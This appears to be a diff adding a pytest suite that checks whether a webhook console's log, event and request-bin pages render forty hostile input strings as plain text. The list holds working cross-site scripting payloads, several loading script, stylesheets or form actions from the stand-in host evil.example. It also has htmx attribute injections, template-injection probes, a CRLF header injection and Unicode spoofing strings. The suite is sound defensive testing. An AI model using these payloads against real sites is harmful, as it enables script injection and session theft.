@@ -1,0 +1,168 @@
+"""What strangers write stays text: forty hostile strings through every field of the log, event and bin pages."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+from bs4 import BeautifulSoup
+from sqlalchemy import update
+
+from console.models import Delivery, Event, Hook
+from console.services import bins
+
+STRINGS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script href=//evil.example/x.js /></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<form action=//evil.example><input name=csrf_token>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{display:none}</style>",
+    "<!--",
+    "--><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "</pre></code></details><h1>Owned</h1>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</template></noscript><script>alert(1)</script>",
+    '" autofocus onfocus=alert(1) x="',
+    "' autofocus onfocus=alert(1) x='",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "` onmouseover=alert(1) `",
+    '" hx-get="//evil.example" hx-trigger="load" x="',
+    "<div hx-get=/o/acme/hooks hx-trigger=load hx-on::load=alert(1)></div>",
+    "<div data-hx-get=/logout data-hx-trigger=load data-copy=x data-dialog=y></div>",
+    "{{ 7*7 }} {% raw %} {{ config }} {{ request.environ }}",
+    "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]]",
+    "javascript:alert(1)//",
+    "data:text/html,<script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\u202egnp.exe\u202c \u2066hidden\u2069",
+    "zero\u200bwidth\u200djoined\ufeff",
+    "\x01\x02\x08\x0b\x1b[31mred\x1b[0m\x7f\x85\x9b",
+    "line\u2028separator\u2029paragraph\r\nSet-Cookie: x=y",
+    "\ufffd\U0001f600\u0301\u0489" + "\u0300" * 60,
+    "A" * 90 + "<b>" + "\u202e" * 9,
+]
+INVISIBLE = re.compile("[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
+ADDRESSES = ("href", "src", "action", "formaction", "hx-get", "hx-post", "data-hx-get", "xlink:href")
+
+
+def test_there_are_forty() -> None:
+    assert len(set(STRINGS)) == 40
+
+
+def check_inert(answer, *, string: str) -> None:
+    """Check that nothing of *string* became markup, and that it is not hidden from the eye either."""
+    assert answer.status_code in {200, 422}
+    page = BeautifulSoup(answer.text, "html.parser")
+    assert len(page.find_all("h1")) == 1
+    assert {script.get("src", "").split("?")[0].rsplit("/", 1)[-1] for script in page.find_all("script")} <= {
+        "console.js",
+        "htmx.min.js",
+    }
+    assert not page.find_all(["iframe", "base", "style", "object", "embed", "math", "img"])
+    for tag in page.find_all():
+        assert not [name for name in tag.attrs if name.startswith("on") or "hx-on" in name], tag
+        for name in ADDRESSES:
+            value = tag.get(name, "")
+            assert value == "" or value.startswith(("/", "#")), (name, value)
+            assert not value.startswith("//")
+    shown = re.sub(r'(?:data-copy|value)="[^"]*"', "", answer.text)
+    assert INVISIBLE.search(shown) is None, INVISIBLE.search(shown)
+    assert "evil.example" not in "".join(str(tag.attrs) for tag in page.find_all(["link", "meta", "script", "form"]))
+    assert "49" not in re.sub(r"[0-9a-f-]{8,}|[\d.:]{3,}", "", page.get_text()) or "7*7" not in string
+
+
+@pytest.fixture
+def soiled(scene, work, ada):
+    """Put a string into every column of a delivery, its attempt, event and hook, past all checks."""
+
+    def soil(string: str) -> Delivery:
+        hook = scene.hook()
+        (delivery,) = scene.publish()
+        short = string[:100]
+        body = json.dumps({string: [string]}, ensure_ascii=False).encode()
+        scene.attempt(
+            delivery,
+            outcome="client_error",
+            status=400,
+            error=string,
+            url=string,
+            method=string[:40],
+            peer=string[:64],
+            body_note=string,
+            request_headers=[[string, string]],
+            response_headers=[[string, string]],
+            response_body=string.encode(),
+            trigger=string[:10],
+        )
+        scene.attempt(delivery, number=2, status=None, outcome="timeout", error=string, response_body=body)
+        scene.put(
+            delivery, event_type=string, url=string, waiting_reason=string, last_outcome=string[:30], last_status=None
+        )
+        work.session.execute(update(Hook).values(name=string, url=string, description=string))
+        work.session.execute(
+            update(Event).values(
+                type=string,
+                message=string,
+                object_model=short,
+                object_pk=short,
+                source=string[:50],
+                idempotency_key=string,
+                payload=body,
+                context=body,
+            )
+        )
+        work.session.commit()
+        assert hook.number == delivery.hook_number
+        return delivery
+
+    return soil
+
+
+@pytest.mark.parametrize("string", STRINGS)
+def test_a_hostile_string_stays_text_in_the_log_and_on_the_pages_of_delivery_and_event(
+    signed_in, ada, soiled, string
+) -> None:
+    delivery = soiled(string)
+    browser = signed_in(ada)
+    paths = [
+        "/o/acme/deliveries",
+        f"/o/acme/deliveries/{delivery.id}",
+        f"/o/acme/hooks/{delivery.hook.id}/deliveries",
+        "/o/acme/events",
+        f"/o/acme/events/{delivery.event.id}",
+        "/o/acme/settings/audit",
+    ]
+
+    for path in paths:
+        check_inert(browser.get(path), string=string)
+    for name in ("q", "event_type", "state", "since", "hook", "outcome"):
+        check_inert(browser.get("/o/acme/deliveries", query_string={name: string}), string=string)
+
+
+@pytest.mark.parametrize("string", STRINGS)
+def test_a_hostile_string_stays_text_in_a_bin(signed_in, ada, work, string) -> None:
+    made = bins.create(work, organization=ada.organization, name=f"n{string}"[:200])
+    bins.change(work, changed=made, answer_body=string)
+    headers = [(string, string), ("webhook-id", string), ("webhook-signature", string), ("webhook-timestamp", string)]
+    for body in (string.encode(), json.dumps({string: string}).encode()):
+        bins.catch(work, key=made.key, method=string, path=f"/in/{made.key}?{string}", headers=headers, body=body)
+    browser = signed_in(ada)
+
+    for path in ("", f"/{made.id}", f"/{made.id}/edit", f"/{made.id}?confirm=delete"):
+        check_inert(browser.get(f"/o/acme/bins{path}"), string=string)
+    caught = browser.post(f"/in/{made.key}", data=string.encode())
+    assert caught.mimetype == "text/plain"
+    assert caught.text == string
